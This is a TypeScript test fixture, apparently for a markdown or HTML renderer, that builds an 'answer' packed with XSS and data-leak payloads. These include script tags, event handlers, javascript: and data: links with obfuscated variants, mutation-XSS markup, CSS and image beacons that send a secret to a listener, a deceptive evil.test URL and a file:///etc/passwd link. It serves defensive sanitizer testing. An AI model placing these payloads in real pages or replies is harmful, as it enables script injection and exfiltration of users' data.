/**
 * An answer that tries everything that text in a page can try: scripts, event handlers, links that run, pictures and styles that would
 * tell a listener a secret.
 *
 * @param listener  base address of a listener that must hear nothing.
 */
export function hostileAnswer(listener: string): string {
  const secret = `${listener}/leak?secret=4711`;
  return `Before.

<script>window.hacked = 'script'; fetch('${secret}&by=script')</script>
<img src="${secret}&by=rawimage" onerror="window.hacked = 'onerror'">
<svg onload="window.hacked = 'svg'"><script>window.hacked = 'svgscript'</script><image href="${secret}&by=svgimage"/></svg>
<iframe src="${secret}&by=frame" srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
<object data="${secret}&by=object"></object><embed src="${secret}&by=embed">
<style>body { background: url('${secret}&by=style') } @import '${secret}&by=import';</style>
<div style="background: url(${secret}&by=css); position: fixed; inset: 0">over everything</div>
<link rel="stylesheet" href="${secret}&by=link"><link rel="prefetch" href="${secret}&by=prefetch"><base href="${listener}/">
<meta http-equiv="refresh" content="0;url=${secret}&by=refresh">
<form action="${secret}&by=form"><input name="q"><button>send</button></form>
<a href="javascript:window.hacked = 'rawlink'" onclick="window.hacked = 'onclick'">raw link</a>
<video src="${secret}&by=video" autoplay></video><audio src="${secret}&by=audio" autoplay></audio>
<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 'mutation'"></style></mglyph></table></mtext></math>

![a picture](${secret}&by=picture)
![a reference][pic]
![inline](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='alert(1)'/%3E)

[runs](javascript:window.hacked='link') [data](data:text/html,<script>window.hacked='data'</script>) [file](file:///etc/passwd)
[tabs](java	script:window.hacked='tabs') [case](JaVaScRiPt:window.hacked='case') [entity](&#106;avascript:window.hacked='entity')
[vb](vbscript:x) [code](vscode://x) [share](smb://host/x)
[honest looking](https://example.com@evil.test/) [good](https://example.com/page)
<javascript:window.hacked='auto'> ${secret}&by=bare

\`\`\`mermaid
graph TD; A["<img src=x onerror='window.hacked=1'>"] --> B; click A href "javascript:window.hacked=2"
\`\`\`

\`\`\`html
<script>window.hacked = 'fence'</script>
\`\`\`

$$\\href{javascript:window.hacked='formula'}{x} \\includegraphics{${secret}&by=formula} \\unicode{<img src=x onerror=window.hacked=3>}$$

| a | b |
|---|---|
| <img src=x onerror="window.hacked = 'cell'"> | [x](javascript:window.hacked='cell') |

[pic]: ${secret}&by=reference "title"

After.
`;
}
